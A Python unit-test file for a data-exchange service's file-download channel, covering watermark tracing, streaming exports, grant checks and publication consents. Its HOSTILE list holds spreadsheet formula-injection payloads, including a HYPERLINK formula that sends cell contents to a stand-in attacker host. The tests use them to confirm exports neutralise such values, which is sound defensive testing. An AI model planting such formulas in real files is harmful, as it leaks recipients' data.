"""The file-download channel and publication consents on in-memory fakes: the watermark and its trace, a job
that streams however many records in bounded turns, the grant's check shared with the API channel, and the
consent lifecycle."""

from __future__ import annotations

import asyncio
import csv
import io
import random
import time
import zipfile
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field, replace
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from common.errors import Conflict, Invalid, NotFound
from common.policy import AccessDenied, Principal, Role
from services.exchange.domain.records import SubjectRecord
from services.exchange.sharing.access import AccessResult, Operation
from services.exchange.sharing.adapters import download_files
from services.exchange.sharing.adapters.download_files import FolderFiles, rows_of
from services.exchange.sharing.consents import (
    INTERNAL_ONLY,
    AskConsent,
    ConsentDecided,
    Consents,
    ConsentStatus,
    DecideConsent,
    PublicationConsent,
    ask,
    decide,
    notice_of,
)
from services.exchange.sharing.downloads import (
    ROWS_PER_TURN,
    Download,
    Downloads,
    ExportRequest,
    FileFormat,
    JobStatus,
    Watermark,
    download_key,
    download_tag,
    row_mark,
    tags_in,
    trace,
)
from services.exchange.sharing.grants import Channel, Grant, GrantStatus
from tests.unit.test_api_channel import APPROVAL, GRANT, PURPOSE, SCHEMA, SECRET, Fakes, channel_of, enterprise, stored

MADE = datetime(2026, 6, 1, 2, 0, tzinfo=UTC)
FILE_GRANT = replace(GRANT, channels=frozenset({Channel.FILE_DOWNLOAD}), consumer_system=None)
FILE_SCHEMA = replace(SCHEMA, share_methods=("API", "FILE_DOWNLOAD"))
PERSON = Principal("li", APPROVAL, frozenset({Role.DATA_ADMINISTRATOR}))


def watermark(download_id: str) -> Watermark:
    return Watermark(download_id, SCHEMA.resource_code, SCHEMA.provider_code, APPROVAL, "g-1", "li", MADE, "x")


def marked_rows(download_id: str, keys: list[str]) -> list[list[str]]:
    key, tag = download_key(SECRET, download_id), download_tag(download_id)
    return [[k, f"公司{n}", row_mark(key, tag, k)] for n, k in enumerate(keys)]


KEYS = [enterprise("360821", n) for n in range(1, 41)]


def test_rows_copied_reordered_and_reshaped_still_name_their_download() -> None:
    first, second = marked_rows("d-1", KEYS), marked_rows("d-2", KEYS)
    leaked = [first[i] for i in (30, 3, 17, 8)] + [second[5]]
    random.Random(7).shuffle(leaked)
    leaked = [["名称", "校验", "代码"]] + [[name, mark, key] for key, name, mark in leaked]  # columns moved
    known = [watermark(f"d-{n}") for n in range(1, 30)]
    matches = trace(leaked, known, SECRET)
    assert [(m.download.download_id, m.rows_matched, m.rows_marked) for m in matches] == [("d-1", 4, 5), ("d-2", 1, 5)]
    assert trace(leaked, known, b"another secret" * 3) == []  # the mark is keyed: only the center's key finds it


def test_what_the_mark_does_not_survive() -> None:
    rows = marked_rows("d-1", KEYS[:5])
    known = [watermark("d-1")]
    assert trace([[name, mark] for _, name, mark in rows], known, SECRET) == []  # the subject column dropped
    assert trace([[key, name] for key, name, _ in rows], known, SECRET) == []  # the mark column dropped
    retyped = [[key.lower(), name, mark] for key, name, mark in rows]  # a value changed: that row is lost
    assert trace(retyped, known, SECRET) == []


def test_a_file_says_internal_use_only_unless_a_consent_covers_it() -> None:
    assert notice_of(None).startswith(INTERNAL_ONLY)
    consent = PublicationConsent(
        "c-1", "g-1", SCHEMA.resource_code, SCHEMA.provider_code, APPROVAL, ("企业名称",), "门户网站", "公示", "li",
        date(2026, 6, 1), date(2026, 6, 15), ConsentStatus.APPROVED,
    )  # fmt: skip
    assert "c-1" in notice_of(consent) and INTERNAL_ONLY not in notice_of(consent)
    assert consent.covers("g-1", SCHEMA.resource_code, APPROVAL, ("企业名称",))
    assert not consent.covers("g-1", SCHEMA.resource_code, APPROVAL, ("企业名称", "法定代表人"))
    assert not replace(consent, status=ConsentStatus.PENDING).covers(
        "g-1", SCHEMA.resource_code, APPROVAL, ("企业名称",)
    )
    assert not consent.covers("g-2", SCHEMA.resource_code, APPROVAL, ("企业名称",))  # bound to its grant


# -- the job ------------------------------------------------------------------------------------------------


@dataclass
class Many(Fakes):
    """A resource of `count` records made one at a time as the cursor reads them: none is held."""

    count: int = 0
    alive: int = 0  # records produced and not yet handed to the writer
    most_alive: int = 0

    async def records_in(self, resource_code: str) -> AsyncIterator[SubjectRecord]:
        for n in range(self.count):
            county = "360821" if n % 2 else "360822"  # half of them in the grant's row scope
            self.alive += 1
            self.most_alive = max(self.most_alive, self.alive)
            yield stored(enterprise(county, n), f"公司{n}")


@dataclass
class Writer:
    source: Many
    rows: int = 0
    largest_turn: int = 0
    finished: bool = False

    def write(self, rows: list[list[Any]]) -> None:
        self.rows += len(rows)
        self.largest_turn = max(self.largest_turn, len(rows))
        self.source.alive = 0  # handed over: the turn's records are gone from the job

    def finish(self) -> tuple[int, str]:
        self.finished = True
        return self.rows, "0" * 64

    def discard(self) -> None: ...


@dataclass
class Store:
    jobs: dict[str, Download] = field(default_factory=dict)
    saves: int = 0
    consents: list[PublicationConsent] = field(default_factory=list)

    async def add(self, download: Download) -> None:
        self.jobs[download.download_id] = download

    async def download(self, download_id: str) -> Download | None:
        return self.jobs.get(download_id)

    async def progress(self, download_id: str, rows_done: int, rows_written: int, at: datetime) -> None:
        self.saves += 1
        self.jobs[download_id] = replace(self.jobs[download_id], rows_done=rows_done, rows_written=rows_written)

    async def finish(self, download: Download) -> None:
        self.jobs[download.download_id] = download

    async def approved(self, resource_code: str, consumer_code: str) -> list[PublicationConsent]:
        return self.consents

    async def record_count(self, resource_code: str) -> int:
        return 5_000


@dataclass
class Files:
    source: Many
    writers: list[Writer] = field(default_factory=list)

    def writer(self, download: Download, columns: list[str]) -> Writer:
        self.writers.append(Writer(self.source))
        return self.writers[-1]

    def path(self, download: Download) -> str:
        return "/nowhere"

    def remove(self, file_name: str) -> None: ...


class Clock:
    def now(self) -> datetime:
        return MADE


def downloads_of(fakes: Many, store: Store, files: Files) -> Downloads:
    return Downloads(
        channel_of(fakes),
        store,
        files,
        store,
        store,
        Clock(),
        SECRET,
        timedelta(hours=1),  # type: ignore[arg-type]
    )


async def test_a_big_export_streams_in_bounded_turns_and_each_fetch_is_an_access_of_the_file_channel() -> None:
    fakes = Many(count=5_000, grants={"g-1": FILE_GRANT}, schemas={SCHEMA.resource_code: FILE_SCHEMA})
    store, files = Store(), Files(fakes)
    channel = downloads_of(fakes, store, files)
    started = await channel.start(ExportRequest(SCHEMA.resource_code, "g-1", PURPOSE, FileFormat.CSV), PERSON)
    assert started.status is JobStatus.RUNNING and started.rows_total == 5_000
    await asyncio.gather(*channel.running)
    job = store.jobs[started.download_id]
    assert (job.status, job.rows_done, job.rows_written) == (JobStatus.READY, 5_000, 2_500)
    [writer] = files.writers
    assert writer.finished and writer.rows == 2_500 and writer.largest_turn <= ROWS_PER_TURN
    assert fakes.most_alive <= ROWS_PER_TURN and store.saves >= 5_000 // ROWS_PER_TURN
    assert job.watermark.notice.startswith(INTERNAL_ONLY)

    await channel.fetch(started.download_id, PERSON)
    [served] = fakes.accesses
    assert (served.call.channel, served.operation, served.result) == (
        Channel.FILE_DOWNLOAD, Operation.DOWNLOAD, AccessResult.SERVED
    )  # fmt: skip
    assert served.subjects_requested == served.record_count == 2_500
    with pytest.raises(NotFound):  # another department's people cannot even see it
        await channel.fetch(started.download_id, replace(PERSON, department_code=SCHEMA.provider_code))


async def test_the_file_channel_opens_only_what_the_grant_opens_through_that_channel() -> None:
    api_only = Many(count=10, grants={"g-1": GRANT}, schemas={SCHEMA.resource_code: FILE_SCHEMA})
    channel = downloads_of(api_only, Store(), Files(api_only))
    request = ExportRequest(SCHEMA.resource_code, "g-1", PURPOSE, FileFormat.JSONL)
    person_grant = replace(GRANT, consumer_system=None)
    api_only.grants["g-1"] = person_grant
    with pytest.raises(AccessDenied, match="does not open the FILE_DOWNLOAD channel"):
        await channel.start(request, PERSON)
    not_offered = Many(count=10, grants={"g-1": FILE_GRANT}, schemas={SCHEMA.resource_code: SCHEMA})
    with pytest.raises(AccessDenied, match="not shared through the FILE_DOWNLOAD channel"):
        await downloads_of(not_offered, Store(), Files(not_offered)).start(request, PERSON)
    file_grant = Many(count=10, grants={"g-1": FILE_GRANT}, schemas={SCHEMA.resource_code: FILE_SCHEMA})
    with pytest.raises(AccessDenied, match="items outside the grant: 注册资本"):
        await downloads_of(file_grant, Store(), Files(file_grant)).start(replace(request, items=("注册资本",)), PERSON)
    with pytest.raises(Invalid, match="#1 is not a subject key"):
        await downloads_of(file_grant, Store(), Files(file_grant)).start(
            replace(request, subject_keys=("not-a-key",)), PERSON
        )
    refused = [a for f in (api_only, not_offered, file_grant) for a in f.accesses]
    assert [a.result for a in refused] == [AccessResult.REFUSED] * 4  # a malformed key too is recorded
    assert "#1 is not a subject key" in (refused[-1].reason or "")
    assert {a.call.channel for a in refused} == {Channel.FILE_DOWNLOAD}


# -- publication consents -----------------------------------------------------------------------------------


@dataclass
class ConsentFakes:
    grants: dict[str, Grant] = field(default_factory=lambda: {"g-1": FILE_GRANT})
    kept: dict[str, PublicationConsent] = field(default_factory=dict)
    announced: list[tuple[str, str]] = field(default_factory=list)

    @property
    def events(self) -> ConsentFakes:
        return self

    def consent_requested(self, consent: PublicationConsent) -> None:
        self.announced.append(("requested", consent.consent_id))

    def consent_decided(self, consent: PublicationConsent) -> None:
        self.announced.append((consent.status.value, consent.consent_id))

    async def grant(self, grant_id: str) -> Grant | None:
        return self.grants.get(grant_id)

    async def consent(self, consent_id: str) -> PublicationConsent | None:
        return self.kept.get(consent_id)

    async def put(self, consent: PublicationConsent, new: bool) -> None:
        self.kept[consent.consent_id] = consent

    @asynccontextmanager
    async def __call__(self) -> AsyncIterator[ConsentFakes]:
        yield self


class Day:
    def __init__(self, day: date) -> None:
        self.day = day

    def today(self) -> date:
        return self.day


class Weekdays:
    def add_working_days(self, start: date, days: int) -> date:
        day = start
        while days:
            day += timedelta(days=1)
            days -= day.weekday() < 5
        return day


async def test_a_consent_is_asked_by_the_consumer_and_decided_once_by_the_provider_with_reasons() -> None:
    fakes = ConsentFakes()
    clock = Day(date(2026, 6, 1))
    consents = Consents(fakes, clock, Weekdays(), 10)  # type: ignore[arg-type]
    with pytest.raises(Invalid, match="items outside the grant: 注册资本"):
        await ask(AskConsent("g-1", ("注册资本",), "门户网站", "公示"), PERSON, consents)
    with pytest.raises(NotFound):  # another department's grant
        provider = Principal("wang", SCHEMA.provider_code, frozenset({Role.DATA_ADMINISTRATOR}))
        await ask(AskConsent("g-1", (), "门户网站", "公示"), provider, consents)
    asked = await ask(AskConsent("g-1", ("企业名称",), "门户网站", "公示"), PERSON, consents)
    assert asked.decide_by == date(2026, 6, 15) and asked.status is ConsentStatus.PENDING  # 10 working days
    with pytest.raises(AccessDenied):  # the consumer cannot consent for the provider
        await decide(DecideConsent(asked.consent_id, True, "同意"), PERSON, consents)
    clock.day = date(2026, 6, 16)
    provider = Principal("wang", SCHEMA.provider_code, frozenset({Role.DATA_ADMINISTRATOR}))
    decided = await decide(DecideConsent(asked.consent_id, True, "已脱敏"), provider, consents)
    assert (decided.status, decided.reasons, decided.late) == (ConsentStatus.APPROVED, "已脱敏", True)
    with pytest.raises(ConsentDecided):
        await decide(DecideConsent(asked.consent_id, False, "反悔"), provider, consents)
    assert fakes.announced == [("requested", asked.consent_id), ("APPROVED", asked.consent_id)]


# -- the files ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("file_format", list(FileFormat))
def test_each_format_is_written_with_its_watermark_and_read_back_for_tracing(file_format, tmp_path) -> None:
    mark = watermark("d-9")
    job = Download("d-9", mark, PURPOSE, file_format, ("企业名称",), (), None, JobStatus.RUNNING, 3)
    files = FolderFiles(tmp_path)
    writer = files.writer(job, ["主体标识", "企业名称", "水印校验码"])
    writer.write(marked_rows("d-9", KEYS[:3]))
    size, digest = writer.finish()
    content = Path(files.path(job)).read_bytes()
    assert size == len(content) and len(digest) == 64 and not list(tmp_path.glob("*.part"))
    rows = rows_of(content)
    if file_format is not FileFormat.XLSX:  # the first line names the download (XLSX: its properties)
        assert "下载编号: d-9" in content.decode().splitlines()[0] or '"下载编号": "d-9"' in content.decode()
    [found] = trace(rows, [mark], SECRET)
    assert found.rows_matched == 3
    if file_format is not FileFormat.XLSX:  # a text file cut anywhere still traces from its whole lines
        [cut] = trace(rows_of(content[:-10]), [mark], SECRET)  # the last row cut off
        assert cut.rows_matched == 2


def test_what_is_not_a_readable_file_is_refused_not_failed() -> None:
    with pytest.raises(ValueError, match="not a readable XLSX"):
        rows_of(b"PK\x03\x04 truncated")
    with pytest.raises(ValueError, match="not a readable CSV"):
        rows_of(b'"' + b"x" * 200_000)
    assert rows_of(b"") == [] and rows_of(b'{"a": 1}\n{"cut') == [["1"]]


# -- review 17: the trace, the files' contents, their deletion, consents, the trail -------------------------


def test_a_file_mixing_two_downloads_traces_to_both_whatever_rows_come_first() -> None:
    first, second = marked_rows("d-1", KEYS[:25]), marked_rows("d-2", KEYS[25:40])
    decoys = [["x", "y", "WM" + f"{n:022x}"] for n in range(20)]  # mark-like cells of no download
    known = [watermark("d-1"), watermark("d-2")]
    matches = trace(decoys + first + second, known, SECRET)
    assert [(m.download.download_id, m.rows_matched, m.rows_marked) for m in matches] == [
        ("d-1", 25, 60),
        ("d-2", 15, 60),
    ]
    assert matches[1].row_numbers == tuple(range(46, 61))  # every matching row of each download, named


def test_the_trace_checks_a_mark_only_against_the_downloads_its_tag_names() -> None:
    rows = [row + list("abcdefg") for row in marked_rows("d-x", KEYS[:20])]
    known = [watermark(f"d-{n}") for n in range(20_000)] + [watermark("d-x")]  # the whole ledger, even
    started = time.perf_counter()
    [found] = trace(rows, known, SECRET)
    took = time.perf_counter() - started
    assert (found.download.download_id, found.rows_matched) == ("d-x", 20)
    assert took < 5, took  # all 20,000 tried at every sampled cell took about 25 s
    assert tags_in(rows) == {download_tag("d-x")}  # what the ledger is asked for


def test_rows_pasted_with_tabs_or_semicolons_still_trace() -> None:
    rows = marked_rows("d-1", KEYS[:4])
    tabbed = "\n".join("\t".join(row) for row in rows).encode()
    semicolons = "\n".join(";".join(row) for row in rows).encode()
    for content in (tabbed, semicolons):
        [found] = trace(rows_of(content), [watermark("d-1")], SECRET)
        assert found.rows_matched == 4
    one_cell = [["\t".join(row)] for row in rows]  # the whole line pasted into one cell
    assert trace(one_cell, [watermark("d-1")], SECRET)[0].rows_matched == 4


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A2,"点击")', "+1+2", "-3+4", "@SUM(A1)", "\tx", "公司\x0b名称"]


def _hostile_file(file_format: FileFormat, tmp_path: Path) -> tuple[FolderFiles, Download]:
    job = Download("d-9", watermark("d-9"), PURPOSE, file_format, ("企业名称",), (), None, JobStatus.RUNNING, 1)
    files = FolderFiles(tmp_path)
    writer = files.writer(job, ["主体标识", "企业名称", "水印校验码"])
    rows = marked_rows("d-9", KEYS[: len(HOSTILE)])
    writer.write([[key, value, mark] for (key, _, mark), value in zip(rows, HOSTILE, strict=True)])
    writer.finish()
    return files, job


def test_a_providers_value_is_never_a_formula_and_control_characters_do_not_fail_the_job(tmp_path: Path) -> None:
    files, job = _hostile_file(FileFormat.XLSX, tmp_path)
    content = Path(files.path(job)).read_bytes()
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        xml = "".join(packed.read(n).decode() for n in packed.namelist() if "worksheets/" in n)
    assert "<f>" not in xml
    book = load_workbook(io.BytesIO(content))
    cells = [row[1] for row in book["数据"].iter_rows(min_row=2)]
    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE)
    assert [c.value for c in cells] == [*HOSTILE[:-1], "公司名称"]  # as given, the control character dropped
    assert trace(rows_of(content), [watermark("d-9")], SECRET)[0].rows_matched == len(HOSTILE)

    files, job = _hostile_file(FileFormat.CSV, tmp_path / "csv")
    content = Path(files.path(job)).read_bytes()
    table = list(csv.reader(io.StringIO(content.decode().split("\n", 1)[1])))
    assert [row[1] for row in table[1:]] == ["'" + v for v in HOSTILE[:-1]] + ["公司\x0b名称"]
    assert trace(rows_of(content), [watermark("d-9")], SECRET)[0].rows_matched == len(HOSTILE)


def test_an_xlsx_goes_on_in_a_new_sheet_when_one_is_full(tmp_path: Path) -> None:
    job = Download("d-9", watermark("d-9"), PURPOSE, FileFormat.XLSX, ("企业名称",), (), None, JobStatus.RUNNING, 7)
    files = FolderFiles(tmp_path)
    writer = files.writer(job, ["主体标识", "企业名称", "水印校验码"])
    writer.rows_per_sheet = 3  # the format's 1,048,576, header included, made small
    writer.write(marked_rows("d-9", KEYS[:7]))
    writer.finish()
    book = load_workbook(Path(files.path(job)))
    data = [s for s in book.worksheets if s.title.startswith("数据")]
    assert [s.title for s in data] == ["数据", "数据2", "数据3", "数据4"]
    assert [s.max_row for s in data] == [3, 3, 3, 2]
    assert all(next(s.iter_rows(values_only=True))[0] == "主体标识" for s in data)  # each with its header
    assert trace(rows_of(Path(files.path(job)).read_bytes()), [watermark("d-9")], SECRET)[0].rows_matched == 7


def test_a_traced_xlsx_that_unpacks_beyond_the_bound_is_refused_unread(tmp_path: Path, monkeypatch) -> None:
    files, job = _hostile_file(FileFormat.XLSX, tmp_path)
    content = Path(files.path(job)).read_bytes()
    monkeypatch.setattr(download_files, "XLSX_MAX_UNPACKED", 1000)
    with pytest.raises(ValueError, match="unpacks to"):
        rows_of(content)


def test_a_part_left_alone_by_a_killed_job_is_removed(tmp_path: Path) -> None:
    files = FolderFiles(tmp_path)
    (tmp_path / "d-7.csv.part").write_text("half a download")
    files.remove("d-7.csv")  # no final file: no error, the part goes
    assert not list(tmp_path.iterdir())
    (tmp_path / "d-8.csv.part").write_text("another")
    assert files.parts(datetime.now(UTC) + timedelta(seconds=5)) == ["d-8.csv.part"]
    assert files.parts(datetime.now(UTC) - timedelta(hours=1)) == []


@dataclass
class Stalled(Many):
    """Records that stop coming after the first turn: the job is cancelled while it waits."""

    waiting: asyncio.Event = field(default_factory=asyncio.Event)

    async def records_in(self, resource_code: str) -> AsyncIterator[SubjectRecord]:
        for n in range(ROWS_PER_TURN + 10):
            yield stored(enterprise("360821", n), f"公司{n}")
        self.waiting.set()
        await asyncio.Event().wait()
        yield stored(enterprise("360821", 0), "")  # pragma: no cover


async def test_a_cancelled_job_deletes_its_part_and_records_its_end(tmp_path: Path) -> None:
    fakes = Stalled(grants={"g-1": FILE_GRANT}, schemas={SCHEMA.resource_code: FILE_SCHEMA})
    store = Store()
    channel = replace(downloads_of(fakes, store, Files(fakes)), files=FolderFiles(tmp_path))
    started = await channel.start(ExportRequest(SCHEMA.resource_code, "g-1", PURPOSE, FileFormat.CSV), PERSON)
    await asyncio.wait_for(fakes.waiting.wait(), 10)
    assert list(tmp_path.glob("*.part"))  # the job is writing
    [task] = channel.running
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    job = store.jobs[started.download_id]
    assert job.status is JobStatus.FAILED and "cancelled" in (job.error or "")
    assert not list(tmp_path.iterdir()) and not channel.held


def consent_of(grant_id: str, items: tuple[str, ...]) -> PublicationConsent:
    return PublicationConsent(
        "c-1", grant_id, SCHEMA.resource_code, SCHEMA.provider_code, APPROVAL, items, "门户网站", "公示", "li",
        date(2026, 6, 1), date(2026, 6, 15), ConsentStatus.APPROVED,
    )  # fmt: skip


async def test_a_consent_covers_a_file_only_with_its_key_in_clear_and_under_its_own_grant() -> None:
    fakes = Many(count=4, grants={"g-1": FILE_GRANT}, schemas={SCHEMA.resource_code: FILE_SCHEMA})
    store = Store()
    channel = downloads_of(fakes, store, Files(fakes))
    asked = ExportRequest(SCHEMA.resource_code, "g-1", PURPOSE, FileFormat.CSV, items=("企业名称",))
    store.consents = [consent_of("g-1", ("企业名称",))]  # the subject column holds the credit code in clear
    assert (await channel.start(asked, PERSON)).watermark.consent_id is None
    store.consents = [consent_of("g-2", ("统一社会信用代码", "企业名称"))]  # another grant's consent
    assert (await channel.start(asked, PERSON)).watermark.consent_id is None
    store.consents = [consent_of("g-1", ("统一社会信用代码", "企业名称"))]
    covered = await channel.start(asked, PERSON)
    assert covered.watermark.consent_id == "c-1" and INTERNAL_ONLY not in covered.watermark.notice
    await asyncio.gather(*channel.running)


async def test_a_consent_is_not_asked_under_a_grant_no_longer_active() -> None:
    fakes = ConsentFakes(grants={"g-1": replace(FILE_GRANT, status=GrantStatus.REVOKED)})
    consents = Consents(fakes, Day(date(2026, 6, 1)), Weekdays(), 10)  # type: ignore[arg-type]
    with pytest.raises(Conflict, match="REVOKED"):
        await ask(AskConsent("g-1", ("企业名称",), "门户网站", "公示"), PERSON, consents)
    fakes.grants["g-1"] = FILE_GRANT
    consents = replace(consents, clock=Day(FILE_GRANT.valid_to + timedelta(days=1)))
    with pytest.raises(Conflict, match="expired"):
        await ask(AskConsent("g-1", ("企业名称",), "门户网站", "公示"), PERSON, consents)
    assert not fakes.kept and not fakes.announced


async def test_a_fetch_of_a_file_of_listed_subjects_names_them_in_the_trail() -> None:
    fakes = Many(grants={"g-1": FILE_GRANT}, schemas={SCHEMA.resource_code: FILE_SCHEMA})
    fakes.records = {k: stored(k, "公司") for k in KEYS[:3]}
    store = Store()
    channel = downloads_of(fakes, store, Files(fakes))
    listed = ExportRequest(SCHEMA.resource_code, "g-1", PURPOSE, FileFormat.CSV, subject_keys=tuple(KEYS[:3]))
    started = await channel.start(listed, PERSON)
    await asyncio.gather(*channel.running)
    await channel.fetch(started.download_id, PERSON)
    [served] = fakes.accesses
    assert served.result is AccessResult.SERVED and served.subject_keys == tuple(KEYS[:3])
